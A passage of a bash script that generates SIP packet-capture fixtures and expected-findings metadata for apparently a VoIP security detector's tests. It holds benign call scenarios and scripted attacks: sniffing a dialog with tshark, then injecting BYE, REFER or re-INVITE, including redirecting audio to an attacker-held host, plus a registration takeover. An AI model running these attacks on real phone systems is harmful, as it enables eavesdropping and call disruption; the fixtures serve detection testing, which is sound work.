	NONCE_COUNT=0 pbx_up leaky $LEAKY
	cap_start benign-shared-nonce-leaky "host $LEAKY"
	local e f
	for e in 102 104 105 106 108; do
		f="$(csv "reg-$e.csv" "$(phone_line "$e" leaky 60 go)")"
		bg timeout 30 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i "127.0.1.${e#10}" -p 5060 -m 1 -d 1000 "$LEAKY:5060"
	done
	wait_bg
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky (nonce_count off)", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml), five at once",
	 "attackers": [], "attacks": [], "benign": true, "findings": ["crypto.weak-nonce"], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.digest-replay", "auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "dos.flood"],
	 "identities": ["102", "104", "105", "106", "108"], "weakPassword": null,
	 "phones": {"127.0.1.2": "102", "127.0.1.4": "104", "127.0.1.5": "105", "127.0.1.6": "106", "127.0.1.8": "108"},
	 "description": "Real Kamailio nonces that repeat: with the auth module's nonce_count (and one_time_nonce) off, a Kamailio nonce is built from the time (1 s resolution) and the secret only, so every challenge issued in the same second carries the same nonce. Five phones (102, 104, 105, 106, 108, each its own address) start registering together: REGISTER, 401, REGISTER with credentials, 200, refresh, unregister; their 401s carry one or two nonces between them. A posture finding (crypto.weak-nonce, repeated to other clients), not an attack."}
	EOF
}

cap_benign-counter-nonce-registrar() {
	cap_start benign-counter-nonce-registrar "host $WEAKREG"
	local f e
	f="$(csv weakreg.csv "x")"
	bg timeout 40 sipp -sf "$SIPP/weak-registrar.xml" -inf "$f" -i "$WEAKREG" -p 5060 -m 12
	sleep 0.5
	for e in 102 104 105; do
		f="$(csv "reg-$e.csv" "$(phone_line "$e" leaky 300 stay)")"
		bg timeout 30 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i "127.0.1.${e#10}" -p 5060 -m 4 -r 2 -d 300 "$WEAKREG:5060"
		sleep 0.2
	done
	wait_bg
	cap_stop
	meta <<-EOF
	{"profile": "none: SIPp weak-registrar.xml stands in for a badly written PBX", "pbx": "$WEAKREG", "transport": "udp",
	 "tool": "SIPp 3.6.1 (weak-registrar.xml as the registrar, phone-register.xml as phones)",
	 "attackers": [], "attacks": [], "benign": true, "findings": ["crypto.weak-nonce"],
	 "mayFind": ["crypto.predictable-identifiers"],
	 "mustNotFind": ["auth.digest-replay", "auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "dos.flood"],
	 "identities": ["102", "104", "105"], "weakPassword": null,
	 "phones": {"127.0.1.2": "102", "127.0.1.4": "104", "127.0.1.5": "105"},
	 "description": "Not Kamailio: Kamailio's nonces are a timestamp and an HMAC, never a counter, so a SIPp UAS at 127.0.0.13 (test/lab/sipp/weak-registrar.xml, Server: BadPBX/1.0) plays a badly written registrar whose nonce is its call counter: nonce=\"1\", \"2\", ... \"12\". Phones 102, 104, 105 each register 4 times (REGISTER, 401, REGISTER with credentials, 200, refresh 300 ms later, 200), 12 challenges in all. The registrar accepts credentials without checking them. A posture finding (crypto.weak-nonce, sequential), not an attack."}
	EOF
}

########## calls ##########
# Call-level captures: calls, holds and transfers, in-dialog requests from a
# third party, registrations that move, toll fraud through the trunk. Each
# is recorded now and then moved in time as a whole (pcap-rewrite.py
# --shift-to: every gap and byte kept) to a fixed moment, so business-hours
# rules give the same answer whatever the day it was made: DAY is Tuesday
# 2026-03-03 10:00 in Europe/London (UTC+0 then), NIGHT Wednesday 02:30.
DAY=1772532000
NIGHT=1772591400
# The media addresses phones announce in SDP (their public RTP address, as a
# remote phone with STUN or a public address does; documentation ranges).
# No RTP is sent. An attacker records media at 203.0.113.66; a phone that
# moves its media goes to 203.0.113.77.
declare -A MEDIA=([102]=198.51.100.2 [104]=198.51.100.4 [105]=198.51.100.5 [108]=198.51.100.8)
# Phones on another network (mobile data, a home office): 127.0.4.x.

# site_config PBX PROFILE: the site configuration sipwarden reads these
# captures with (expected.json "config", validated by the product's loader):
# the PBX and trunk addresses, 3CX Auth IDs, a UK dial plan with 9 for an
# outside line, calls allowed to GB/FR/DE/IE, business hours Monday-Friday
# 08:00-19:00 Europe/London, and a small office's cap of 10 new calls an hour
# per extension or source.
site_config() {
	local ids="{}" e
	if [ "$2" = 3cx-like ]; then
		ids="{"
		for e in 100 101 102 103 104 105 106 107 108 109; do ids="$ids\"${AUTHID[$e]}\": \"$e\", "; done
		ids="${ids%, }}"
	fi
	cat <<-EOF
	{"site": "lab", "timeZone": "Europe/London",
	 "network": {"pbx": ["$1"], "trunks": ["$TRUNK"]}, "identities": $ids,
	 "numbers": {"dialPlan": {"country": "GB", "outboundPrefixes": ["9"]}, "allowedCountries": ["GB", "FR", "DE", "IE"]},
	 "businessHours": {"timeZone": "Europe/London", "days": ["mon", "tue", "wed", "thu", "fri"], "start": "08:00", "end": "19:00"},
	 "rules": {"fraud.call-volume": {"thresholds": {"callsPerHour": 10}}}}
	EOF
}

# cap_stop_at EPOCH: stop recording and write the fixture moved to EPOCH.
cap_stop_at() {
	cap_stop --raw
	run /usr/bin/python3 "$here/bin/pcap-rewrite.py" "$work/raw/$cap.pcap" "$out/$cap.pcap" --pbx none --shift-to "$1"
}

# register EXT PROFILE PBX ADDR [PORT] [UA]: a phone registers and stays.
register() {
	local ext="$1" profile="$2" pbx="$3" addr="$4" port="${5:-5060}" ua="${6:-${UA[$1]}}" id="$1" f
	[ "$profile" = 3cx-like ] && id="${AUTHID[$1]}"
	f="$(csv "reg-$ext-$addr-$port.csv" "$ext;$(auth "$id" "${PASSWORD[$ext]}");300;$ua;stay")"
	must_run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i "$addr" -p "$port" -m 1 -d 300 "$pbx:5060"
}

# creds EXT PROFILE: SIPp's authentication keyword for EXT on PROFILE.
creds() {
	local id="$1"
	[ "$2" = 3cx-like ] && id="${AUTHID[$1]}"
	auth "$id" "${PASSWORD[$1]}"
}

cap_call-benign-hold-resume-3cx() {
	pbx_up 3cx-like $TCX
	cap_start call-benign-hold-resume-3cx "host $TCX"
	register 102 3cx-like $TCX 127.0.1.2
	local f
	f="$(csv uas-102.csv "${UA[102]};${MEDIA[102]};")"
	bg timeout 40 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 2 -mp 16000
	sleep 0.5
	local c; c="$(creds 105 3cx-like)"
	f="$(csv hold-105.csv "105;$c;102;${UA[105]};${MEDIA[105]};0.0.0.0;sendrecv;${MEDIA[105]};sendrecv" \
		"105;$c;102;${UA[105]};${MEDIA[105]};${MEDIA[105]};sendonly;${MEDIA[105]};sendrecv")"
	must_run timeout 30 sipp -sf "$SIPP/call-reinvite-uac.xml" -inf "$f" -i 127.0.1.5 -p 5060 -m 2 -l 1 -d 1000 -mp 17000 "$TCX:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, phone-uas.xml, call-reinvite-uac.xml), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": [], "attacks": [], "benign": true, "findings": ["exposure.unencrypted-media"],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["session.media-redirect", "session.dialog-hijack", "registration.hijack", "auth.bruteforce", "dos.flood", "call.unauthenticated-accepted"],
	 "identities": ["${AUTHID[105]}", "${AUTHID[102]}"], "weakPassword": null, "rewritten": true,
	 "phones": {"127.0.1.5": "105", "127.0.1.2": "102"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "Hold and resume. 102 registers; 105 calls 102 twice through the PBX (INVITE, 407, ACK, INVITE with Proxy-Authorization, 180, 200, ACK; SDP media at ${MEDIA[105]} and ${MEDIA[102]}, plain RTP/AVP). In the first call 105 holds with a re-INVITE whose c= is 0.0.0.0 (RFC 2543 style), 1 s later resumes at its address; in the second it holds with a=sendonly (102 answers a=recvonly) and resumes with a=sendrecv. Every re-INVITE goes to 102's Contact through the PBX's Record-Route and is answered 200 and ACKed; then BYE, 200. Recorded, then moved as a whole to Tuesday 2026-03-03 10:00 UTC. Holding is no media redirect; plain RTP to internet addresses is a low posture finding."}
	EOF
}

cap_call-benign-transfer-3cx() {
	pbx_up 3cx-like $TCX
	cap_start call-benign-transfer-3cx "host $TCX"
	register 102 3cx-like $TCX 127.0.1.2
	register 104 3cx-like $TCX 127.0.1.4
	local f
	f="$(csv uas-104.csv "${UA[104]};${MEDIA[104]};")"
	bg timeout 40 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.1.4 -p 5060 -m 1 -mp 16100
	f="$(csv xfer-102.csv "${UA[102]};${MEDIA[102]};sip:104@$TCX")"
	bg timeout 40 sipp -sf "$SIPP/transferor-uas.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -d 1500 -mp 16000
	sleep 0.5
	f="$(csv xfer-105.csv "105;$(creds 105 3cx-like);102;${UA[105]};${MEDIA[105]}")"
	bg timeout 40 sipp -sf "$SIPP/transferee-uac.xml" -inf "$f" -i 127.0.1.5 -p 5060 -m 1 -d 3000 -mp 17000 "$TCX:5060"
	# The REFER comes about 2 s after the call starts; the transferee's new
	# call to 104 leaves from another port of the same phone.
	sleep 2.6
	f="$(csv call-105-104.csv "105;$(creds 105 3cx-like);104;${UA[105]}")"
	must_run timeout 20 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i 127.0.1.5 -p 5064 -m 1 -d 2000 -mp 17100 "$TCX:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, transferor-uas.xml, transferee-uac.xml, phone-uas.xml, call-uac.xml), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": [], "attacks": [], "benign": true, "findings": ["exposure.unencrypted-media"],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["session.dialog-hijack", "session.media-redirect", "registration.hijack", "auth.bruteforce", "dos.flood", "call.unauthenticated-accepted"],
	 "identities": ["${AUTHID[105]}", "${AUTHID[102]}", "${AUTHID[104]}"], "weakPassword": null, "rewritten": true,
	 "phones": {"127.0.1.5": "105 (port 5060 the first call, 5064 the transferred one)", "127.0.1.2": "102", "127.0.1.4": "104"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "A blind transfer (RFC 5589). 102 and 104 register. 105 calls 102 (INVITE, 407, INVITE with credentials, 180, 200, ACK). 1.5 s later 102 sends REFER (Refer-To: sip:104@$TCX, Referred-By 102) inside the dialog, to 105's Contact through the PBX's Record-Route; 105 answers 202 and NOTIFY (Event: refer, sipfrag 100 Trying), places the new call to 104 from its port 5064 (INVITE, 407, INVITE with credentials, 180, 200, ACK, 2 s, BYE), reports NOTIFY sipfrag 200 OK, and 102 hangs up the first call (BYE, 200). Every in-dialog request comes from a party of its dialog. Recorded, then moved as a whole to Tuesday 2026-03-03 10:00 UTC."}
	EOF
}

cap_call-benign-two-devices-leaky() {
	pbx_up leaky $LEAKY
	cap_start call-benign-two-devices-leaky "host $LEAKY"
	register 102 leaky $LEAKY 127.0.1.2
	register 102 leaky $LEAKY 127.0.4.2 5060 "Linphone/5.2.0 (Android 14) LinphoneSDK/5.3.0"
	sleep 1
	register 102 leaky $LEAKY 127.0.1.2
	register 108 leaky $LEAKY 127.0.1.8
	register 108 leaky $LEAKY 127.0.1.18 5060 "Yealink W73P 146.85.0.20"
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["registration.hijack", "auth.bruteforce", "auth.credential-stuffing", "auth.digest-replay", "dos.flood"],
	 "identities": ["102", "108"], "weakPassword": null, "rewritten": true,
	 "phones": {"127.0.1.2": "102 desk phone", "127.0.4.2": "102 softphone on a mobile network", "127.0.1.8": "108 desk phone", "127.0.1.18": "108 DECT base"},
	 "config": $(site_config $LEAKY leaky),
	 "description": "Several devices per extension, side by side (the registrar keeps every binding). 102's desk phone (a Snom D785, 127.0.1.2) registers; 102's softphone (Linphone on Android) registers from another network, 127.0.4.2: the 200 lists both contacts; the desk phone registers again (a new Call-ID, the same Contact: a refresh). 108's desk phone (127.0.1.8) and a DECT base (127.0.1.18, another User-Agent, the same /24) register. Each: REGISTER, 401, REGISTER with credentials, 200, a refresh 300 ms later. A second device is not a takeover: nothing was replaced."}
	EOF
}

cap_call-benign-phone-moves-3cx() {
	SINGLE_CONTACT=1 pbx_up 3cx-like $TCX
	cap_start call-benign-phone-moves-3cx "host $TCX"
	register 108 3cx-like $TCX 127.0.1.8
	register 102 3cx-like $TCX 127.0.1.2
	sleep 1
	# 108 leaves the office Wi-Fi for mobile data: same phone, new network.
	register 108 3cx-like $TCX 127.0.4.8
	# 102 reboots and comes back on another port of the same address.
	register 102 3cx-like $TCX 127.0.1.2 5070
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like (SINGLE_CONTACT=1: one binding per extension)", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["registration.hijack", "auth.bruteforce", "auth.digest-replay", "dos.flood"],
	 "identities": ["${AUTHID[108]}", "${AUTHID[102]}"], "weakPassword": null, "rewritten": true,
	 "phones": {"127.0.1.8": "108 (office)", "127.0.4.8": "108 (mobile data)", "127.0.1.2": "102 (port 5060, then 5070)"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "Phones that move, on a registrar that keeps one binding per extension (Kamailio save flag 0x04, like Asterisk PJSIP max_contacts=1 with remove_existing): each new REGISTER replaces the old binding and the 200 lists only the new contact. 108 (Yealink SIP-T54W) registers from 127.0.1.8, then from 127.0.4.8 (another network, the same User-Agent: the phone left the office Wi-Fi); 102 registers from 127.0.1.2:5060, then from port 5070 of the same address (a reboot). Replaced, but by the same device: no takeover."}
	EOF
}

cap_call-benign-trunk-reanchor-3cx() {
	pbx_up 3cx-like $TCX
	cap_start call-benign-trunk-reanchor-3cx "host $TCX"
	register 102 3cx-like $TCX 127.0.1.2
	local f
	f="$(csv uas-102.csv "${UA[102]};${MEDIA[102]};")"
	bg timeout 40 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -mp 16000
	sleep 0.5
	f="$(csv trunk-in.csv "+442071838750;;102;Provider-SBC/4.2;198.51.100.50;192.0.2.50;sendrecv;192.0.2.50;sendrecv")"
	must_run timeout 20 sipp -sf "$SIPP/trunk-reinvite-uac.xml" -inf "$f" -i "$TRUNK" -p 5062 -m 1 -d 1000 -mp 19000 "$TCX:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, phone-uas.xml, trunk-reinvite-uac.xml as the provider), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": [], "attacks": [], "benign": true, "findings": ["exposure.unencrypted-media"],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["session.media-redirect", "session.dialog-hijack", "call.unauthenticated-accepted", "dos.flood"],
	 "identities": ["${AUTHID[102]}"], "weakPassword": null, "rewritten": true, "trunk": "$TRUNK",
	 "phones": {"127.0.1.2": "102"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "A provider re-anchoring its media. 102 registers; the provider at $TRUNK (trusted by address, not challenged; declared as a trunk in the site configuration) delivers a call from +442071838750 to 102: INVITE with its media at 198.51.100.50, 100, 180, 200 (102's media at ${MEDIA[102]}), ACK. 1 s later its SBC moves the call to another media server with a re-INVITE to 192.0.2.50 (another network), answered 200 and ACKed; 1 s later a session refresh at 192.0.2.50; then BYE, 200. A declared trunk moving its own media is no redirect. Recorded, then moved as a whole to Tuesday 2026-03-03 10:00 UTC."}
	EOF
}

# outbound_calls NAME AT CALLER_LINES...: 105 (127.0.1.5) places the calls
# given (number per line) through the PSTN=auth PBX; the provider answers.
outbound_capture() {
	local name="$1" at="$2" f; shift 2
	PSTN=auth pbx_up leaky $LEAKY
	cap_start "$name" "host $LEAKY"
	register 102 leaky $LEAKY 127.0.1.2
	f="$(csv uas-trunk.csv "Provider-SBC/4.2")"
	bg timeout 40 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -i "$TRUNK" -p 5060 -m $# -mp 18000
	sleep 0.5
	local -a lines=() n
	for n in "$@"; do lines+=("105;$(creds 105 leaky);$n;${UA[105]}"); done
	f="$(csv calls-105.csv "${lines[@]}")"
	must_run timeout 30 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i 127.0.1.5 -p 5060 -m $# -l 1 -d 2000 -mp 17000 "$LEAKY:5060"
	f="$(csv uas-102.csv "${UA[102]}")"
	bg timeout 20 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -mp 16000
	sleep 0.3
	f="$(csv trunk-in.csv "+5372345678;;102;Provider-SBC/4.2")"
	must_run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i "$TRUNK" -p 5062 -m 1 -d 2000 -mp 19000 "$LEAKY:5060"
	wait_bg
	cap_stop_at "$at"; pbx_down_all
}

cap_call-benign-outbound-day-leaky() {
	outbound_capture call-benign-outbound-day-leaky $DAY 902079460123 +33142685300 9004915112345678
	meta <<-EOF
	{"profile": "leaky (PSTN=auth)", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, call-uac.xml, call-uas.xml as phone and as provider), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["fraud.international-destination", "fraud.premium-destination", "fraud.off-hours", "fraud.prefix-probing", "fraud.sequential-dialing", "fraud.concurrent-calls", "fraud.call-volume", "call.unauthenticated-accepted", "session.dialog-hijack"],
	 "identities": ["105", "102"], "weakPassword": null, "rewritten": true, "trunk": "$TRUNK",
	 "phones": {"127.0.1.5": "105", "127.0.1.2": "102"},
	 "config": $(site_config $LEAKY leaky),
	 "description": "An office day, Tuesday 2026-03-03 10:00 Europe/London (recorded, then moved as a whole). 102 registers. 105 (127.0.1.5) calls, one after the other, 9 020 7946 0123 (national, outside-line prefix 9), +33 1 42 68 53 00 (France, an allowed country) and 9 00 49 151 12345678 (a German mobile, allowed): INVITE, 407, ACK, INVITE with credentials, 100; the PBX drops the 9 and sends the call to the provider at $TRUNK (180, 200, ACK, 2 s, BYE). Then the provider delivers an inbound call from a Cuban number (+5372345678) to 102, not challenged (a trunk). Nothing international outside the allowed countries leaves the site, and nothing at night."}
	EOF
}

cap_call-benign-night-national-leaky() {
	outbound_capture call-benign-night-national-leaky $NIGHT 902079460123 901614960123 901134960123
	meta <<-EOF
	{"profile": "leaky (PSTN=auth)", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, call-uac.xml, call-uas.xml as phone and as provider), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["fraud.premium-destination", "fraud.call-volume", "call.unauthenticated-accepted", "fraud.off-hours", "fraud.international-destination"],
	 "identities": ["105", "102"], "weakPassword": null, "rewritten": true, "trunk": "$TRUNK",
	 "phones": {"127.0.1.5": "105", "127.0.1.2": "102"},
	 "config": $(site_config $LEAKY leaky),
	 "description": "Someone working late: Wednesday 2026-03-04 02:30 Europe/London (recorded, then moved as a whole, outside the site's business hours). 102 registers; 105 calls three national numbers, 9 020 7946 0123 (London), 9 0161 496 0123 (Manchester) and 9 0113 496 0123 (Leeds), through the PBX and the provider (INVITE, 407, INVITE with credentials, 180, 200, ACK, 2 s, BYE); the provider delivers an inbound call from +5372345678 to 102. fraud.off-hours is about international calls: national calls at night are not reported (the Leeds number, 0113, is national: 011 is not this UK site's international prefix)."}
	EOF
}

# hijack_capture NAME SCENARIO ATTACKER KEYS...: 102 registers and answers
# 105's call; 2 s into the call the attacker reads the dialog's identifiers
# off the wire (tshark on the recording in progress, as a sniffer on the
# path would) and sends its in-dialog request through the PBX. (Not straight
# to the phone: a SIPp UAS answers a call's requests to the address that
# opened the call, the PBX, not to the sender's Via.)
hijack_capture() {
	local name="$1" scenario="$2" attacker="$3" f; shift 3
	pbx_up 3cx-like $TCX
	cap_start "$name" "host $TCX"
	register 102 3cx-like $TCX 127.0.1.2
	f="$(csv uas-102.csv "${UA[102]};${MEDIA[102]};${LATE_BYE:-}")"
	bg timeout 40 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -mp 16000
	sleep 0.5
	f="$(csv call-105.csv "105;$(creds 105 3cx-like);102;${UA[105]}")"
	bg timeout 30 sipp -sf "$SIPP/call-gone-uac.xml" -inf "$f" -i 127.0.1.5 -p 5060 -m 1 -d 7000 -mp 17000 "$TCX:5060"
	sleep 2
	run sh -c "tshark -r '$work/raw/$name.pcap' -Y 'ip.src == 127.0.1.2 && sip.Status-Code == 200 && sip.CSeq.method == \"INVITE\"' -T fields -e sip.Call-ID -e sip.From -e sip.To -e sip.Contact -e sip.Record-Route 2>/dev/null | head -n 1 >'$work/run/sniffed.txt'"
	local callid from to contact rr
	IFS=$'\t' read -r callid from to contact rr <"$work/run/sniffed.txt" || true
	[ -n "$callid" ] || echo "WARNING: $name: no dialog sniffed" >&2
	contact="${contact#<}"; contact="${contact%%>*}"
	run timeout 15 sipp -sf "$SIPP/$scenario" -cid_str "$callid" -key ruri "$contact" -key route "Route: $rr" \
		-key from "$from" -key to "$to" -key cseq 101 -key ua "MicroSIP/3.21.3" "$@" \
		-i "$attacker" -p 5060 -m 1 "$TCX:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
}

hijack_meta() { # NAME ATTACKER ATTACKS MUSTNOT DESCRIPTION
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, phone-uas.xml, call-gone-uac.xml; $1 with the dialog's identifiers read by tshark), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": ["$2"], "attacks": [$3], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers", "exposure.unencrypted-media"],
	 "mustNotFind": [$4],
	 "identities": ["${AUTHID[105]}", "${AUTHID[102]}"], "weakPassword": null, "rewritten": true,
	 "phones": {"127.0.1.5": "105", "127.0.1.2": "102"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "$5 Recorded, then moved as a whole to Tuesday 2026-03-03 10:00 UTC."}
	EOF
}

cap_call-hijack-bye-3cx() {
	LATE_BYE=late-bye hijack_capture call-hijack-bye-3cx hijack-bye.xml 127.0.2.80
	hijack_meta hijack-bye.xml 127.0.2.80 '"session.dialog-hijack"' '"session.media-redirect", "registration.hijack", "auth.bruteforce", "dos.flood"' \
		"A third party hangs up a call. 102 registers; 105 calls 102 through the PBX (INVITE, 407, INVITE with credentials, 180, 200, ACK; 102's SDP at ${MEDIA[102]}). 2 s into the call an attacker at 127.0.2.80 that sniffed the 200 (Call-ID, From with 105's tag, To with 102's tag, 102's Contact, the PBX's Record-Route) sends BYE into the dialog as if it were 105, to the PBX with Route: the PBX's Record-Route; the PBX relays it (loose routing) to 102, which answers 200: 102 has hung up. When 105 hangs up 5 s later, its BYE reaches 102 through the PBX and is answered 481 (the call no longer exists)."
}

cap_call-hijack-refer-3cx() {
	hijack_capture call-hijack-refer-3cx hijack-refer.xml 127.0.2.81 -key referto "sip:900881612345678@$TCX"
	hijack_meta hijack-refer.xml 127.0.2.81 '"session.dialog-hijack"' '"session.media-redirect", "registration.hijack", "auth.bruteforce", "dos.flood"' \
		"A third party transfers a call. As call-hijack-bye-3cx, but the attacker at 127.0.2.81 sends REFER into the dialog as if it were 105 (Refer-To: sip:900881612345678@$TCX, a satellite number; Referred-By 105), through the PBX; 102 answers 202 Accepted (this phone does not act on it; many would place the call). 105 hangs up normally 5 s later (BYE, 200)."
}

cap_call-hijack-reinvite-3cx() {
	hijack_capture call-hijack-reinvite-3cx hijack-reinvite.xml 127.0.2.82 -key media 203.0.113.66
	hijack_meta hijack-reinvite.xml 127.0.2.82 '"session.dialog-hijack", "session.media-redirect"' '"registration.hijack", "auth.bruteforce", "dos.flood"' \
		"A third party redirects a call's media. As call-hijack-bye-3cx, but the attacker at 127.0.2.82 sends a re-INVITE into the dialog as if it were 105, whose SDP moves 105's media to 203.0.113.66 (a host it records from), through the PBX; 102 answers 200 with its SDP, the attacker ACKs on the same route: 102 now sends its audio to the attacker. 105 hangs up normally 5 s later (BYE, 200)."
}

cap_call-hijack-hold-3cx() {
	hijack_capture call-hijack-hold-3cx hijack-reinvite.xml 127.0.2.87 -key media 0.0.0.0
	hijack_meta hijack-reinvite.xml 127.0.2.87 '"session.dialog-hijack"' '"session.media-redirect", "registration.hijack", "auth.bruteforce", "dos.flood"' \
		"A third party puts a call on hold. As call-hijack-reinvite-3cx, but the attacker at 127.0.2.87 sends a re-INVITE with c=0.0.0.0 (hold) as if it were 105, through the PBX; 102 answers 200 and the attacker ACKs: 102 stops sending audio. No media goes anywhere new (no redirect), but a stranger changed the call."
}

cap_call-media-redirect-3cx() {
	pbx_up 3cx-like $TCX
	cap_start call-media-redirect-3cx "host $TCX"
	register 102 3cx-like $TCX 127.0.1.2
	local f
	f="$(csv uas-102.csv "${UA[102]};${MEDIA[102]};")"
	bg timeout 40 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -mp 16000
	sleep 0.5
	f="$(csv move-105.csv "105;$(creds 105 3cx-like);102;${UA[105]};${MEDIA[105]};203.0.113.77;sendrecv;203.0.113.77;sendrecv")"
	run timeout 30 sipp -sf "$SIPP/call-reinvite-uac.xml" -inf "$f" -i 127.0.1.5 -p 5060 -m 1 -d 1000 -mp 17000 "$TCX:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, phone-uas.xml, call-reinvite-uac.xml), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": ["127.0.1.5"], "attacks": ["session.media-redirect"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers", "exposure.unencrypted-media"],
	 "mustNotFind": ["session.dialog-hijack", "registration.hijack", "auth.bruteforce", "dos.flood"],
	 "identities": ["${AUTHID[105]}", "${AUTHID[102]}"], "weakPassword": null, "rewritten": true,
	 "phones": {"127.0.1.5": "105", "127.0.1.2": "102"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "Media moved mid-call to another network by a party of the call. 102 registers; 105 calls 102 (INVITE, 407, INVITE with credentials, 180, 200, ACK; media at ${MEDIA[105]} and ${MEDIA[102]}). 1 s later 105's signaling address sends a re-INVITE on the dialog's route set whose SDP moves its media to 203.0.113.77, another network (malware on the phone, or an attacker on its path or behind its NAT address, would send exactly this); 102 accepts (200, ACK); a second re-INVITE 1 s later keeps 203.0.113.77; BYE, 200. Every request comes from a party of the dialog, so this is no dialog hijack; the media now flows to a host on another network. Recorded, then moved as a whole to Tuesday 2026-03-03 10:00 UTC."}
	EOF
}

cap_call-registration-takeover-3cx() {
	SINGLE_CONTACT=1 pbx_up 3cx-like $TCX
	cap_start call-registration-takeover-3cx "host $TCX"
	register 102 3cx-like $TCX 127.0.1.2
	sleep 1
	local f
	f="$(csv takeover-102.csv "102;$(creds 102 3cx-like);3600;Zoiper rv2.10.20.1;stay")"
	run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.2.83 -p 5060 -m 1 -d 300 "$TCX:5060"
	f="$(csv uas-attacker.csv "Zoiper rv2.10.20.1;127.0.2.83;")"
	bg timeout 20 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.2.83 -p 5060 -m 1 -mp 16200
	sleep 0.3
	f="$(csv trunk-in.csv "+442071838750;;102;Provider-SBC/4.2")"
	run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i "$TRUNK" -p 5062 -m 1 -d 2000 -mp 19000 "$TCX:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like (SINGLE_CONTACT=1: one binding per extension)", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, phone-uas.xml, call-uac.xml as the provider), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": ["127.0.2.83"], "attacks": ["registration.hijack"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["session.dialog-hijack", "auth.bruteforce", "auth.success-after-failures", "call.unauthenticated-accepted", "dos.flood"],
